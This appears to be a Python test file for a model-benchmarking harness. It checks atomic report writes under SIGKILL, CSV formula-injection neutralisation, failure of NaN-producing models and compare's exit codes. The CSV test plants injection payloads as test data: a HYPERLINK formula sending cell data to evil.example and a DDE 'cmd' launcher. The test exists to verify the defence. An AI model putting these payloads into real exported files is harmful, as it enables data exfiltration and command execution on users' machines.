"""Reports under faults of the second round (issue 13, findings 9, 15, 16 and 18): a kill during a
report write, cells a spreadsheet would run as formulas, a model that outputs NaN, and the exit codes
of compare."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from onnx import TensorProto, helper

from conftest import REPO, assert_clean_error, edgebench
from reportkit import copy_run, digits_run, rewrite_records
from usermodels import _save


@pytest.fixture(scope="module")
def base(tmp_path_factory):
    return digits_run(tmp_path_factory.getbasetemp())


SLOW_REPORT = """
import os, sys, time
import harness.util as util
calls = {"n": 0}
real = os.fsync
def slow_fsync(fd):
    calls["n"] += 1
    if calls["n"] == int(sys.argv[2]):
        open(sys.argv[3], "w").close()  # the write of this file is under way: kill me now
        time.sleep(60)
    real(fd)
util.os.fsync = slow_fsync
from harness.report.write import report_run
report_run(sys.argv[1])
"""


@pytest.mark.parametrize("nth, name", [(1, "summary.csv"), (2, "pairs.csv")])
def test_a_kill_during_a_report_write_leaves_the_previous_complete_file(base, tmp_path, nth, name):
    run_dir = copy_run(base, tmp_path / "run")
    assert edgebench("report", str(run_dir), "--no-html").returncode == 0
    before = (run_dir / name).read_bytes()
    assert len(before) > 0
    ready = tmp_path / "ready"
    proc = subprocess.Popen([sys.executable, "-c", SLOW_REPORT, str(run_dir), str(nth), str(ready)],
                            env={**os.environ, "PYTHONPATH": str(REPO)}, cwd=REPO,
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 120
    while not ready.exists() and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert ready.exists(), proc.stderr.read() if proc.poll() is not None else "never reached the write"
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=30)
    assert (run_dir / name).read_bytes() == before  # never a 0-byte or half file in its place
    assert edgebench("report", str(run_dir), "--no-html").returncode == 0
    assert not [p.name for p in run_dir.iterdir() if p.name.endswith(".tmp")]


def _cells(path: Path) -> list[str]:
    with open(path, newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _formula_like(cell: str) -> bool:
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        float(cell)
        return False  # a negative number stays a number
    except ValueError:
        return True


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(base, tmp_path):
    run_dir = copy_run(base, tmp_path / "run")
    evil = {"digits-separable": '=HYPERLINK("http://evil.example/?"&A1,"x")', "digits-standard": "@SUM(1+1)"}

    def change(r):
        r["model"] = evil.get(r["model"], r["model"])
        r["family"] = "+cmd|' /C calc'!A0"
        r["device"] = "-2+3"
        return r

    rewrite_records(run_dir, change)
    assert edgebench("report", str(run_dir), "--no-html").returncode == 0
    for name in ("summary.csv", "pairs.csv"):
        cells = _cells(run_dir / name)
        assert [c for c in cells if _formula_like(c)] == [], name
        assert any(c.startswith("'=HYPERLINK(") or c.startswith("'+cmd") for c in cells), name
    summary = pd.read_csv(run_dir / "summary.csv")
    assert (summary["median_ms"] > 0).all()  # numbers stay numbers


def test_compare_csv_cells_are_neutralised_and_negative_numbers_stay_numbers(tmp_path):
    from harness.util import csv_safe

    df = pd.DataFrame({"config_id": ["=1+1", "-x", "-1.5", "ok"], "ratio": [-1.5, 2.0, 0.5, -0.25]})
    out = csv_safe(df)
    assert list(out["config_id"]) == ["'=1+1", "'-x", "-1.5", "ok"]
    assert list(out["ratio"]) == [-1.5, 2.0, 0.5, -0.25]


def nan_net(path: Path) -> Path:
    """sqrt(-1 - |x|): every output NaN, whatever the input."""
    nodes = [helper.make_node("Abs", ["x"], ["a"]), helper.make_node("Neg", ["a"], ["n"]),
             helper.make_node("Sub", ["n", "one"], ["m"]), helper.make_node("Sqrt", ["m"], ["y"])]
    one = helper.make_tensor("one", TensorProto.FLOAT, [1], [1.0])
    return _save(path, nodes, [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 8])],
                 [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 8])], [one])


def test_a_model_whose_outputs_are_all_nan_fails_its_job_and_the_run_says_so(tmp_path):
    model = nan_net(tmp_path / "nan.onnx")
    prof = tmp_path / "box.toml"
    prof.write_text('[device]\nname = "box"\nkind = "local"\n[matrix]\n'
                    f'models = [{json.dumps(str(model))}]\nruntimes = ["onnxruntime"]\nmodes = ["perf"]\n'
                    "trials = 1\nwarmup_runs = 1\nmin_runs = 5\nmin_time_s = 0.01\nmax_time_s = 0.2\n")
    proc = edgebench("run", str(prof), "--out", str(tmp_path / "res"), "--run-id", "r")
    assert proc.returncode == 3, proc.stderr
    [rec] = [json.loads(x) for x in (tmp_path / "res" / "r" / "records.jsonl").read_text().splitlines()]
    assert rec["status"] == "failed" and "8 non-finite value(s) (NaN or inf)" in rec["error"]
    assert "1 of 1 jobs did not succeed (1 failed)" in proc.stderr


def test_compare_of_runs_with_no_config_in_common_is_one_line_and_not_zero(base, tmp_path):
    other = copy_run(base, tmp_path / "other")

    def rename(r):
        r["device"] = "elsewhere"
        r["config_id"] = "elsewhere/" + r["config_id"].split("/", 1)[1]
        return r

    rewrite_records(other, rename)
    proc = edgebench("compare", str(base), str(other))
    err = assert_clean_error(proc, "no config in common")
    assert proc.returncode == 1 and len(err.strip().splitlines()) == 1


def test_a_usage_error_and_a_regression_never_share_an_exit_code(base):
    from harness.errors import RegressionFound
    from harness.history import EXIT_REGRESSION

    usage = edgebench("compare", str(base), str(base), "--threshold", "-5%")
    bad_flag = edgebench("run", "--trials", "abc")
    assert bad_flag.returncode == usage.returncode == 2  # argparse's usage errors
    assert RegressionFound.exit_code == EXIT_REGRESSION == 4
